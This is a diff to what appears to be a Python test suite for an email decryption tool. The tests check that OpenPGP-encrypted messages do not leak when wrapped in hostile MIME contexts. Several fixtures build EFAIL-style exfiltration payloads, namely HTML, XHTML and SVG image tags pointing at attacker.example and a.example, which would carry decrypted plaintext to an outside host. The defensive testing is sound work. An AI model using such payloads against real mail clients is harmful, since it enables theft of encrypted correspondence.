@@ -70,11 +70,14 @@ CONTEXTS = [
     ("text-after", lambda e, t: message(multipart(b"mixed", [e, ATTACKER_TEXT]))),
     ("no-content-type", lambda e, t: message(multipart(b"mixed", [b"\r\nquote me back\r\n", e]))),
     ("html-with-comment", lambda e, t: message(multipart(b"mixed", [
-        b'Content-Type: text/html (comment)\r\n\r\n<img src="http://attacker.example/', e, b"Content-Type: text/html\r\n\r\n\">"]))),
+        b'Content-Type: text/html (comment)\r\n\r\n<img src="http://attacker.example/', e,
+        b'Content-Type: text/html\r\n\r\n">']))),
     ("xhtml", lambda e, t: message(multipart(b"mixed", [
-        b'Content-Type: application/xhtml+xml\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml"><img src="http://a.example/', e]))),
+        b'Content-Type: application/xhtml+xml\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml">'
+        b'<img src="http://a.example/', e]))),
     ("svg", lambda e, t: message(multipart(b"mixed", [
-        b'Content-Type: image/svg+xml\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg"><image href="http://a.example/', e]))),
+        b'Content-Type: image/svg+xml\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg">'
+        b'<image href="http://a.example/', e]))),
     ("alternative", lambda e, t: message(multipart(b"alternative", [ATTACKER_TEXT, e]))),
     ("related", lambda e, t: message(multipart(b"related", [e, b"Content-Type: image/png\r\n\r\nnot a png\r\n"]))),
     # Inside an outer signature the attacker made himself: the signature layer is whole, its content is not.
@@ -343,7 +346,7 @@ def test_tampered_openpgp_ciphertext_says_integrity_check_failed(tools, corpus_s
     attack = tools.pgp_tampered(SECRET_ENTITY)
     outcome, out = run(attack, corpus_store)
     assert info_of(outcome) == {"PGP-Encoding": "PGP/MIME", "PGP-Encrypted": "True",
-                                "PGP-Decryption-Failed": "integrity check failed"}
+                                "PGP-Encryption-Algorithm": "AES-256", "PGP-Decryption-Failed": "integrity check failed"}
     assert untouched(attack, outcome, out) and not leaks(out)
     assert not leaks(run(attack, corpus_store, EMBEDDED_ON)[1])
 
